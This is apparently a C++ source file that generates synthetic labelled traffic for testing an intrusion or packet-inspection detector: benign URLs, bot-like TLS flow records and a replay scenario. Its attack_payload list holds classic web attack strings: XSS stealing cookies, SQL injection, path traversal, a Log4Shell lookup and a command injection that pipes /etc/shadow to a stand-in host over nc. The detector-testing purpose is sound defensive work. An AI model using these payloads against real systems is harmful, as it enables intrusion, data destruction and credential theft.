#include "adpi/synthetic.hpp"

#include <array>
#include <cmath>

namespace adpi::synth {

namespace {

template <typename T, std::size_t N>
const T& choose(std::mt19937_64& rng, const std::array<T, N>& items) {
  return items[std::uniform_int_distribution<std::size_t>(0, N - 1)(rng)];
}

int uniform(std::mt19937_64& rng, int lo, int hi) {
  return std::uniform_int_distribution<int>(lo, hi)(rng);
}

double uniform_real(std::mt19937_64& rng, double lo, double hi) {
  return std::uniform_real_distribution<double>(lo, hi)(rng);
}

std::string word(std::mt19937_64& rng) {
  static constexpr std::array<const char*, 16> words = {
      "books", "garden", "summer", "kitchen", "travel", "music", "sports", "winter",
      "coffee", "laptop", "shoes", "camera", "movies", "health", "office", "photos"};
  return choose(rng, words);
}

std::string path(std::mt19937_64& rng) {
  static constexpr std::array<const char*, 8> dirs = {
      "shop", "blog", "news", "images", "account", "catalog", "search", "static"};
  static constexpr std::array<const char*, 8> pages = {
      "index", "item", "view", "list", "profile", "cart", "article", "gallery"};
  static constexpr std::array<const char*, 4> exts = {"php", "html", "jsp", "aspx"};
  return std::string("/") + choose(rng, dirs) + "/" + choose(rng, pages) + "." +
         choose(rng, exts);
}

}  // namespace

std::string benign_payload(std::mt19937_64& rng) {
  static constexpr std::array<const char*, 6> params = {"id", "page", "cat", "q", "sort",
                                                        "lang"};
  std::string out = path(rng);
  const int n_params = uniform(rng, 0, 3);
  for (int i = 0; i < n_params; ++i) {
    out += i == 0 ? '?' : '&';
    out += choose(rng, params);
    out += '=';
    if (uniform(rng, 0, 1) == 0) out += std::to_string(uniform(rng, 1, 999));
    else out += word(rng);
  }
  return out;
}

std::string attack_payload(std::mt19937_64& rng) {
  static constexpr std::array<const char*, 10> attacks = {
      "<script>alert(document.cookie)</script>",
      "' OR '1'='1' --",
      "../../../../etc/passwd",
      "1 UNION SELECT username,password FROM users--",
      "<img src=x onerror=alert(1)>",
      ";cat /etc/shadow|nc evil 4444",
      "%27%20OR%201%3D1%20--",
      "${jndi:ldap://evil/x}",
      "..%2f..%2f..%2fwindows%2fwin.ini",
      "'; DROP TABLE accounts;--"};
  return path(rng) + "?id=" + choose(rng, attacks);
}

std::vector<LabeledPayload> payload_corpus(std::size_t n, double malicious_fraction,
                                           std::uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::bernoulli_distribution is_attack(malicious_fraction);
  std::vector<LabeledPayload> out;
  out.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    if (is_attack(rng)) out.push_back({attack_payload(rng), Label::malicious});
    else out.push_back({benign_payload(rng), Label::benign});
  }
  return out;
}

std::vector<EncryptedFlowRecord> flow_records(std::size_t n, double malicious_fraction,
                                              double noise, std::uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::bernoulli_distribution is_bot(malicious_fraction);
  std::bernoulli_distribution flip(noise);
  static constexpr std::array<TlsVersion, 2> modern = {TlsVersion::tls1_2,
                                                       TlsVersion::tls1_3};
  static constexpr std::array<TlsVersion, 3> legacy = {TlsVersion::ssl3, TlsVersion::tls1_0,
                                                       TlsVersion::unknown};
  static constexpr std::array<int, 4> bot_ports = {1001, 4444, 6667, 8080};
  std::vector<EncryptedFlowRecord> out;
  out.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    const bool bot = is_bot(rng);
    const bool looks_bot = flip(rng) ? !bot : bot;
    const std::uint32_t client = 0x0A000000u + static_cast<std::uint32_t>(uniform(rng, 1, 60000));
    const std::uint32_t server = 0xC6336400u + static_cast<std::uint32_t>(uniform(rng, 1, 250));
    EncryptedFlowRecord r;
    const auto src_port = static_cast<std::uint16_t>(uniform(rng, 49152, 65535));
    if (looks_bot) {
      const auto dst_port = static_cast<std::uint16_t>(choose(rng, bot_ports));
      r.flow = FlowKey::canonicalize({{client}, src_port}, {{server}, dst_port},
                                     Protocol::tcp());
      r.tls_version = choose(rng, legacy);
      r.ttl = uniform(rng, 30, 50);
      r.duration = uniform_real(rng, 0.01, 2.0);
      r.fwd_packets = uniform(rng, 50, 400);
      r.bwd_packets = uniform(rng, 0, 20);
    } else {
      r.flow = FlowKey::canonicalize({{client}, src_port}, {{server}, 443}, Protocol::tcp());
      r.tls_version = choose(rng, modern);
      r.ttl = uniform(rng, 0, 1) == 0 ? uniform(rng, 54, 64) : uniform(rng, 118, 128);
      r.duration = uniform_real(rng, 5.0, 300.0);
      r.fwd_packets = uniform(rng, 10, 200);
      r.bwd_packets = uniform(rng, 10, 400);
    }
    r.label = bot ? Label::malicious : Label::benign;
    out.push_back(r);
  }
  return out;
}

Blobs separable_blobs(std::size_t n, double margin, std::uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::normal_distribution<double> noise(0.0, 1.0);
  Blobs out;
  while (out.y.size() < n) {
    const int label = static_cast<int>(out.y.size() % 2);
    const double c = label == 1 ? 2.0 : -2.0;
    const double x = c + noise(rng);
    const double y = c + noise(rng);
    const double signed_distance = (x + y) / std::sqrt(2.0);
    if ((label == 1 ? signed_distance : -signed_distance) < margin / 2.0) continue;
    const std::vector<double> dense = {x, y};
    out.X.push_back(ml::from_dense(dense));
    out.y.push_back(label);
  }
  return out;
}

ReplayScenario replay_scenario(int flows, int packets_per_flow, int blacklisted,
                               int planted, int plant_at, std::uint64_t seed) {
  std::mt19937_64 rng(seed);
  ReplayScenario s;
  const Endpoint server{Ipv4Address::parse("192.0.2.10"), 80};
  s.blacklist_lines = {"# synthetic blacklist", "203.0.113.0/24", "198.51.100.77"};
  std::vector<FlowKey> keys;
  for (int f = 0; f < flows; ++f) {
    Ipv4Address src;
    if (f < blacklisted) {
      src = f % 2 == 0 ? Ipv4Address::parse("203.0.113." + std::to_string(10 + f))
                       : Ipv4Address::parse("198.51.100.77");
    } else {
      src = Ipv4Address::parse("10.0.0." + std::to_string(10 + f));
    }
    const auto port = static_cast<std::uint16_t>(40000 + f);
    const auto key = FlowKey::canonicalize({src, port}, server, Protocol::tcp());
    keys.push_back(key);
    if (f < blacklisted) s.blacklisted_flows.push_back(key);
    else if (f < blacklisted + planted) s.planted_flows.push_back(key);
    else s.benign_flows.push_back(key);
  }
  for (int i = 0; i < packets_per_flow; ++i) {
    for (int f = 0; f < flows; ++f) {
      PacketRecord p;
      p.flow = keys[static_cast<std::size_t>(f)];
      p.direction = i % 2 == 0 ? Direction::forward : Direction::reverse;
      p.timestamp = i * 0.01 + f * 0.0001;
      const bool plant = f >= blacklisted && f < blacklisted + planted && i == plant_at;
      p.payload = plant ? attack_payload(rng) : benign_payload(rng);
      s.packets.push_back(std::move(p));
    }
  }
  return s;
}

}  // namespace adpi::synth
